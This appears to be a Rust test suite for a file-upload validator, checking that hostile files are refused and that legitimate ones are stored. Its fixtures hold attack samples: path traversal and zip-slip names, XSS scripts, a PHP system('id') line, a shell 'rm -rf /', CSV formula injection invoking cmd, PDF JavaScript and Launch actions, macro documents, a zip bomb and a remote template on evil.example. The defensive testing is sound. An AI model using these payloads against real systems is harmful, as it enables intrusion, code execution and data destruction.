//! What is not taken, whatever it is called: and nothing of it is left.

use domain::file::MOST_BYTES;
use domain::process::Room;

use super::made::{self, archive, docx_with, odt_with};
use super::{Table, fault_at, new};
use crate::offers::cast::Cast;
use crate::support::{World, both_databases};

both_databases!(what_is_hostile_leaves_nothing, what_is_good_is_taken);

const EMPTY: &[u8] = b"";

/// Name, content, and words of the answer.
type Hostile = (&'static str, Vec<u8>, &'static str);

fn names() -> Vec<Hostile> {
    let pdf = made::pdf;
    vec![
        ("", pdf(), "Choose a file"),
        ("../../", pdf(), "Choose a file"),
        ("\u{202E}", pdf(), "Choose a file"),
        ("letter.exe", b"MZ".to_vec(), "must be a PDF"),
        ("letter.pdf.exe", pdf(), "must be a PDF"),
        ("letter.\u{202E}fdp", pdf(), "must be a PDF"),
        ("letter.pdf\0.html", pdf(), "must be a PDF"),
        ("letter.docm", made::docx(), "with macros"),
        (
            "drawing.svg",
            b"<svg onload=\"alert(1)\"/>".to_vec(),
            "must be a PDF",
        ),
        ("page.html", b"<html></html>".to_vec(), "must be a PDF"),
    ]
}

fn sizes() -> Vec<Hostile> {
    let mut large = made::pdf();
    large.splice(9..9, vec![b' '; MOST_BYTES]);
    vec![
        ("empty.pdf", Vec::new(), "is empty"),
        ("empty.txt", Vec::new(), "is empty"),
        ("large.pdf", large, "10 MB or smaller"),
        ("wide.png", made::png_of(20_001, 1), "20,000 points"),
    ]
}

fn other_kinds() -> Vec<Hostile> {
    let html = || b"<!DOCTYPE html><script>alert(1)</script>".to_vec();
    let svg =
        || b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec();
    vec![
        ("html.png", html(), "parts of a web page"),
        ("html.pdf", html(), "parts of a web page"),
        ("html.docx", html(), "parts of a web page"),
        ("svg.png", svg(), "not a PNG"),
        ("svg.jpg", svg(), "not a JPEG"),
        ("svg.txt", svg(), "parts of a web page"),
        (
            "script.csv",
            b"a,b\n<ScRiPt>alert(1)</ScRiPt>,2".to_vec(),
            "parts of a web page",
        ),
        (
            "php.txt",
            b"Hello <?php system('id'); ?>".to_vec(),
            "parts of a web page",
        ),
        ("shell.txt", b"#!/bin/sh\nrm -rf /".to_vec(), "a program"),
        ("pdf.png", made::pdf(), "not a PNG"),
        ("png.pdf", made::png(), "not a PDF"),
        ("jpeg.docx", made::jpeg(), "not a Word document"),
        ("pdf.txt", made::pdf(), "not plain text"),
        (
            "old.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old".repeat(64),
            "an old format",
        ),
        ("binary.txt", vec![0x41, 0x00, 0x42], "UTF-8"),
        ("latin.csv", b"caf\xe9,1".to_vec(), "UTF-8"),
        (
            "formula.csv",
            b"name,sum\n\"=cmd|' /C calc'!A0\",1".to_vec(),
            "formula",
        ),
        ("at.csv", b"@SUM(1+1)*cmd|' /C calc'!A0".to_vec(), "formula"),
        ("minus.csv", b"a;-2+3+cmd|' /C calc'!A0".to_vec(), "formula"),
    ]
}

fn two_at_once() -> Vec<Hostile> {
    let behind = |mut content: Vec<u8>, more: &[u8]| {
        content.extend_from_slice(more);
        content
    };
    let page = b"<script>alert(1)</script>";
    let hidden = archive(&[("run.js", b"alert(1)")]);
    let before = |more: &[u8], content: Vec<u8>| [more, &content].concat();
    vec![
        ("behind.png", behind(made::png(), page), "behind its end"),
        ("behind.jpg", behind(made::jpeg(), page), "behind its end"),
        ("behind.pdf", behind(made::pdf(), page), "behind its end"),
        (
            "archive.png",
            behind(made::png(), &hidden),
            "behind its end",
        ),
        (
            "archive.pdf",
            behind(made::pdf(), &hidden),
            "behind its end",
        ),
        (
            "both.pdf",
            {
                // An archive whose note ends as a PDF does.
                let mut both = before(b"%PDF-1.4\n", hidden.clone());
                let tail = b"\nstartxref\n0\n%%EOF";
                let length = both.len();
                both[length - 2] = u8::try_from(tail.len()).expect("is short");
                behind(both, tail)
            },
            "two kinds",
        ),
        ("before.pdf", before(b"<html>", made::pdf()), "not a PDF"),
        (
            "before.docx",
            before(b"MZ", made::docx()),
            "not a Word document",
        ),
        ("behind.docx", behind(made::docx(), page), "behind its end"),
        ("cut.png", made::png()[..30].to_vec(), "damaged"),
        ("cut.jpg", made::jpeg()[..40].to_vec(), "damaged"),
        ("cut.pdf", made::pdf()[..40].to_vec(), "damaged"),
        ("cut.docx", made::docx()[..200].to_vec(), "damaged"),
    ]
}

fn with_programs() -> Vec<Hostile> {
    let pdf_with = |what: &str| {
        let mut content = made::pdf();
        content.splice(9..9, what.bytes());
        content
    };
    let macros =
        String::from_utf8_lossy(made::WORD).replace("main+xml", "main+xml\" x=\"macroEnabled");
    vec![
        ("runs.pdf", pdf_with("<< /S /JavaScript /JS (app.alert(1)) >>\n"), "a program"),
        ("starts.pdf", pdf_with("<< /S /Launch /F (calc.exe) >>\n"), "a program"),
        ("carries.pdf", pdf_with("<< /EmbeddedFiles 3 0 R >>\n"), "a program"),
        ("renamed.pdf", pdf_with("<< /S /J#61vaScript /JS (app.alert(1)) >>\n"), "a program"),
        ("packed.pdf", made::pdf_packing("", b"<< /S /JavaScript /JS (app.alert(1)) >>"), "a program"),
        ("escaped.pdf", made::pdf_packing("", b"<< /S /Lau#6Ech /F (calc.exe) >>"), "a program"),
        ("nameless.pdf", made::pdf_of("/N 1 /First 4 /Filter /FlateDecode", &made::packed(b"<< /XFA 1 0 R >>")), "a program"),
        ("twice.pdf", made::pdf_of("/Type /ObjStm /First 4 /Filter [/FlateDecode /FlateDecode]", b"x"), "cannot be looked into"),
        ("lzw.pdf", made::pdf_of("/Type /ObjStm /First 4 /Filter /LZWDecode", b"x"), "cannot be looked into"),
        ("elsewhere.pdf", made::pdf_of("/Type /ObjStm /First 4 /Filter 5 0 R", b"x"), "cannot be looked into"),
        ("turned.pdf", made::pdf_packing("/DecodeParms << /Predictor 12 >>", b"x"), "cannot be looked into"),
        ("broken.pdf", made::pdf_of("/Type /ObjStm /First 4 /Filter /FlateDecode", b"no zlib"), "damaged"),
        ("locked.pdf", pdf_with("<< /Encrypt 4 0 R >>\n"), "password"),
        ("zeros.pdf", made::pdf_packing("", &vec![0; 101 * 1024 * 1024]), "too large"),
        ("vba.docx", docx_with(&[("word/vbaProject.bin", b"vba")]), "a program"),
        (
            "renamed.docx",
            archive(&[
                (made::TYPES, macros.as_bytes()),
                ("word/document.xml", b"<w:document/>"),
            ]),
            "a program",
        ),
        ("exe.docx", docx_with(&[("word/embeddings/a.exe", b"MZ")]), "a program"),
        ("basic.odt", odt_with(&[("Basic/Standard/Module1.xml", b"Sub Main")]), "a program"),
        (
            "template.docx",
            docx_with(&[(
                "word/_rels/settings.xml.rels",
                br#"<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
            )]),
            "from elsewhere",
        ),
        (
            "entities.docx",
            docx_with(&[("word/styles.xml", b"<!DOCTYPE x [<!ENTITY a \"aaaa\">]><w:styles/>")]),
            "too large",
        ),
    ]
}

fn archives() -> Vec<Hostile> {
    let zeros = vec![0; 101 * 1024 * 1024];
    let many: Vec<String> = (0..2_001).map(|nth| format!("word/{nth}.xml")).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|name| (name.as_str(), EMPTY)).collect();
    vec![
        (
            "bomb.docx",
            docx_with(&[("word/media/zeros.bmp", &zeros)]),
            "too large",
        ),
        ("many.docx", docx_with(&many), "too large"),
        (
            "slip.docx",
            docx_with(&[("../../etc/cron.d/x", b"x")]),
            "damaged",
        ),
        ("other.docx", made::xlsx(), "not a Word document"),
        ("other.xlsx", made::docx(), "not an Excel workbook"),
        ("other.odt", made::docx(), "not an OpenDocument"),
        (
            "plain.docx",
            archive(&[("a.txt", b"a")]),
            "not a Word document",
        ),
        (
            "locked.odt",
            archive(&[
                ("mimetype", b"application/vnd.oasis.opendocument.text"),
                ("content.xml", b"x"),
                ("META-INF/manifest.xml", b"<manifest:encryption-data/>"),
            ]),
            "password",
        ),
    ]
}

async fn what_is_hostile_leaves_nothing(world: World) {
    let cast = Cast::of(world).await;
    let kent = cast.start().await;
    let table = Table { cast: &cast, kent };
    let before = cast.world.rows_in("events").await;
    let kinds = [
        names(),
        sizes(),
        other_kinds(),
        two_at_once(),
        with_programs(),
        archives(),
    ];
    let (mut tried, mut wrong) = (0, Vec::new());
    for (name, content, words) in kinds.into_iter().flatten() {
        let file = new("engagement", Room::Place, name, &content);
        let refused = table.attach(&cast.ann, file).await;
        let told = match refused {
            Ok(_) => "it was taken".to_owned(),
            refused => fault_at("file", refused),
        };
        if !told.contains(words) {
            wrong.push(format!("{name:?}: {told}"));
        }
        tried += 1;
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(tried >= 70, "{tried}");
    assert_eq!(table.on_disk(), 0);
    assert_eq!(table.rows().await, 0);
    assert_eq!(cast.world.rows_in("events").await, before);
}

async fn what_is_good_is_taken(world: World) {
    let cast = Cast::of(world).await;
    let kent = cast.start().await;
    let table = Table { cast: &cast, kent };
    let csv = "name,sum\nPolice,\"-1,200\"\nHealth,+3\n".as_bytes();
    for (name, content) in [
        ("letter.pdf", made::pdf()),
        (
            "packed.pdf",
            made::pdf_packing("", b"<< /Type /Page /Launches 1 >>"),
        ),
        ("photo.jpeg", made::jpeg()),
        ("chart.png", made::png()),
        ("minutes.docx", made::docx()),
        ("sums.xlsx", made::xlsx()),
        ("memorandum.odt", made::odt()),
        ("figures.csv", csv.to_vec()),
        (
            "\u{FEFF}notes.txt",
            "\u{FEFF}Llythyr: 1 < 2 & £3".as_bytes().to_vec(),
        ),
        ("../../etc/passwd.txt", b"root".to_vec()),
    ] {
        let file = new("engagement", Room::Place, name, &content);
        let slug = table.attach(&cast.ann, file).await;
        let slug = slug.unwrap_or_else(|refusal| panic!("{name}: {refusal:?}"));
        assert_eq!(table.read(&cast.ann, &slug).await.expect("opens"), content);
    }
    assert_eq!(table.on_disk(), 10);
    assert!(
        table
            .names(&cast.ann)
            .await
            .contains(&"passwd.txt".to_owned())
    );
}
